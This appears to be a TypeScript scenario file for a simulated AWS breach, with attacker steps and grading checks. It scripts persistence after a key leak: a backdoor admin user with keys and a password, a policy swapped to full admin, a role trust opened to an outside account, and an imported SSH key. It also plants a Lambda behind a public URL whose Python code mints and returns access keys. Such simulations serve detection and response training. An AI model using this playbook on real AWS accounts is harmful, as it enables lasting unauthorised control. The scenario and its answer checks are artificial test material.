import type { ScenarioDef } from '../types.js';
import { zipOneFile } from '../../services/lambda/zip.js';
import { W, arn } from '../world.js';
import { attackerStep as step, MIN, HOUR } from './steps.js';

const ATTACKER_ACCOUNT = W.external;
const BACKDOOR_USER = 'svc-backup';
const BACKDOOR_FN = 'acme-health-check';
const OIDC_URL = 'https://oidc.ci-runner.dev';
const SSH_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILT8JP9jZHhhrObTMUM3AKYnwXKhy8Shr4/prZiEBnU2 root@kali';

const ADMIN_DOC = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }],
});

const BACKDOOR_CODE = zipOneFile(
  'index.py',
  'import boto3\n\ndef handler(event, context):\n    iam = boto3.client("iam")\n    k = iam.create_access_key(UserName="svc-backup")["AccessKey"]\n    return {"id": k["AccessKeyId"], "secret": k["SecretAccessKey"]}\n',
);

/**
 * Persistence: with the leaked key the attacker plants every kind of way back in — a new admin
 * user with keys and a console password, a key for an existing admin, an admin policy version,
 * a role trust opened to their own account, a Lambda backdoor behind a public function URL, an
 * SSH key pair and an OIDC identity provider.
 */
export const persistence: ScenarioDef = {
  name: 'persistence',
  summary:
    'leaked key → backdoor admin user (keys, password), key for an existing admin, admin policy version, role trust to the attacker account, public Lambda URL backdoor, SSH key pair, OIDC provider',
  attackStartsBeforeEnd: 6 * HOUR,
  leakedKey: true,
  attackers: [
    {
      name: 'attacker',
      kind: 'attacker',
      ip: '91.219.236.15',
      userAgent: 'aws-cli/2.15.0 Python/3.11.6 Linux/6.1.0-13-amd64 exe/x86_64.debian.12 prompt/off',
    },
  ],
  steps: [
    step(0, 'sts', 'GetCallerIdentity', {}),
    step(MIN, 'iam', 'ListUsers', {}),
    step(2 * MIN, 'iam', 'ListRoles', {}),
    step(3 * MIN, 'iam', 'ListPolicies', { Scope: 'Local' }),
    step(
      5 * MIN,
      'iam',
      'CreateUser',
      { UserName: BACKDOOR_USER },
      {
        truth: (out) => ({
          created: [
            { type: 'AWS::IAM::User', id: BACKDOOR_USER, detail: String((out.User as { Arn?: string }).Arn) },
          ],
          persistence: [
            {
              kind: 'iam-user',
              detail: 'new user with AdministratorAccess',
              resource: arn.user(BACKDOOR_USER),
            },
          ],
          clean: [{ check: 'userAbsent', userName: BACKDOOR_USER }],
        }),
      },
    ),
    step(
      5 * MIN + 20_000,
      'iam',
      'AttachUserPolicy',
      { UserName: BACKDOOR_USER, PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
      {
        truth: {
          modified: [{ type: 'AWS::IAM::User', id: BACKDOOR_USER, detail: 'AdministratorAccess attached' }],
        },
      },
    ),
    step(
      5 * MIN + 40_000,
      'iam',
      'CreateAccessKey',
      { UserName: BACKDOOR_USER },
      {
        save: (out, v) => {
          const k = out.AccessKey as { AccessKeyId: string; SecretAccessKey: string };
          v.backdoorKey = { accessKeyId: k.AccessKeyId, secretAccessKey: k.SecretAccessKey };
        },
        truth: (out) => {
          const id = (out.AccessKey as { AccessKeyId: string }).AccessKeyId;
          return {
            created: [{ type: 'AWS::IAM::AccessKey', id, detail: `for ${BACKDOOR_USER}` }],
            persistence: [{ kind: 'access-key', detail: `key of the backdoor user`, resource: id }],
            clean: [{ check: 'accessKeyNotActive', accessKeyId: id }],
          };
        },
      },
    ),
    step(
      6 * MIN,
      'iam',
      'CreateLoginProfile',
      { UserName: BACKDOOR_USER, Password: 'Winter2026!Backup#', PasswordResetRequired: false },
      {
        truth: {
          persistence: [
            {
              kind: 'login-profile',
              detail: 'console password for the backdoor user',
              resource: arn.user(BACKDOOR_USER),
            },
          ],
          clean: [{ check: 'loginProfileAbsent', userName: BACKDOOR_USER }],
        },
      },
    ),
    step(8 * MIN, 'iam', 'ListAccessKeys', { UserName: W.adminUser }),
    step(
      8 * MIN + 30_000,
      'iam',
      'CreateAccessKey',
      { UserName: W.adminUser },
      {
        truth: (out) => {
          const id = (out.AccessKey as { AccessKeyId: string }).AccessKeyId;
          return {
            created: [{ type: 'AWS::IAM::AccessKey', id, detail: `for existing admin ${W.adminUser}` }],
            persistence: [
              {
                kind: 'access-key',
                detail: `second key for the existing admin ${W.adminUser}`,
                resource: id,
              },
            ],
            clean: [{ check: 'accessKeyNotActive', accessKeyId: id }],
          };
        },
      },
    ),
    step(
      10 * MIN,
      'iam',
      'CreatePolicyVersion',
      { PolicyArn: arn.policy(W.deployPolicy), PolicyDocument: ADMIN_DOC, SetAsDefault: true },
      {
        truth: (out) => ({
          modified: [
            {
              type: 'AWS::IAM::ManagedPolicy',
              id: arn.policy(W.deployPolicy),
              detail: `default version ${String((out.PolicyVersion as { VersionId?: string }).VersionId)} allows *:*`,
            },
          ],
          persistence: [
            {
              kind: 'policy-version',
              detail: 'customer managed policy swapped to an admin version',
              resource: arn.policy(W.deployPolicy),
            },
          ],
          clean: [
            { check: 'policyDefaultVersionIs', policyArn: arn.policy(W.deployPolicy), versionId: 'v1' },
          ],
        }),
      },
    ),
    step(
      12 * MIN,
      'iam',
      'UpdateAssumeRolePolicy',
      {
        RoleName: W.deployRole,
        PolicyDocument: JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Principal: { AWS: `arn:aws:iam::${W.account}:root` },
              Action: 'sts:AssumeRole',
            },
            {
              Effect: 'Allow',
              Principal: { AWS: `arn:aws:iam::${ATTACKER_ACCOUNT}:root` },
              Action: 'sts:AssumeRole',
            },
          ],
        }),
      },
      {
        truth: {
          modified: [
            {
              type: 'AWS::IAM::Role',
              id: W.deployRole,
              detail: `trust opened to account ${ATTACKER_ACCOUNT}`,
            },
          ],
          persistence: [
            {
              kind: 'role-trust',
              detail: `external account ${ATTACKER_ACCOUNT} may assume the role`,
              resource: arn.role(W.deployRole),
            },
          ],
          clean: [{ check: 'roleTrustExcludes', roleName: W.deployRole, principal: ATTACKER_ACCOUNT }],
        },
      },
    ),
    step(
      15 * MIN,
      'lambda',
      'CreateFunction',
      {
        FunctionName: BACKDOOR_FN,
        Runtime: 'python3.12',
        Role: arn.role(W.lambdaRole),
        Handler: 'index.handler',
        Code: { ZipFile: BACKDOOR_CODE },
      },
      {
        truth: (out) => ({
          created: [{ type: 'AWS::Lambda::Function', id: String(out.FunctionArn), region: W.region }],
          clean: [{ check: 'functionAbsent', region: W.region, functionName: BACKDOOR_FN }],
        }),
      },
    ),
    step(
      15 * MIN + 30_000,
      'lambda',
      'CreateFunctionUrlConfig',
      { FunctionName: BACKDOOR_FN, AuthType: 'NONE' },
      {
        truth: (out) => ({
          persistence: [
            {
              kind: 'lambda-url',
              detail: `public function URL ${String(out.FunctionUrl)}`,
              resource: BACKDOOR_FN,
            },
          ],
        }),
      },
    ),
    step(
      15 * MIN + 40_000,
      'lambda',
      'AddPermission',
      {
        FunctionName: BACKDOOR_FN,
        StatementId: 'FunctionURLAllowPublicAccess',
        Action: 'lambda:InvokeFunctionUrl',
        Principal: '*',
        FunctionUrlAuthType: 'NONE',
      },
      {
        truth: {
          modified: [
            {
              type: 'AWS::Lambda::Function',
              id: BACKDOOR_FN,
              region: W.region,
              detail: 'public invoke permission',
            },
          ],
        },
      },
    ),
    step(
      18 * MIN,
      'ec2',
      'ImportKeyPair',
      { KeyName: 'ops-recovery', PublicKeyMaterial: Buffer.from(SSH_KEY) },
      {
        truth: {
          created: [{ type: 'AWS::EC2::KeyPair', id: 'ops-recovery', region: W.region }],
          persistence: [
            { kind: 'key-pair', detail: 'attacker SSH public key imported', resource: 'ops-recovery' },
          ],
          clean: [{ check: 'keyPairAbsent', region: W.region, keyName: 'ops-recovery' }],
        },
      },
    ),
    step(
      20 * MIN,
      'iam',
      'CreateOpenIDConnectProvider',
      {
        Url: OIDC_URL,
        ClientIDList: ['sts.amazonaws.com'],
        ThumbprintList: ['9e99a48a9960b14926bb7f3b02e22da2b0ab7280'],
      },
      {
        truth: (out) => ({
          created: [{ type: 'AWS::IAM::OIDCProvider', id: String(out.OpenIDConnectProviderArn) }],
          persistence: [
            {
              kind: 'oidc-provider',
              detail: `identity provider ${OIDC_URL}`,
              resource: String(out.OpenIDConnectProviderArn),
            },
          ],
          clean: [{ check: 'oidcProviderAbsent', arn: String(out.OpenIDConnectProviderArn) }],
        }),
      },
    ),
    {
      at: 25 * MIN,
      actor: 'attacker',
      as: 'backdoorKey',
      service: 'sts',
      op: 'GetCallerIdentity',
      input: {},
    },
    { at: 26 * MIN, actor: 'attacker', as: 'backdoorKey', service: 'iam', op: 'ListUsers', input: {} },
  ],
};
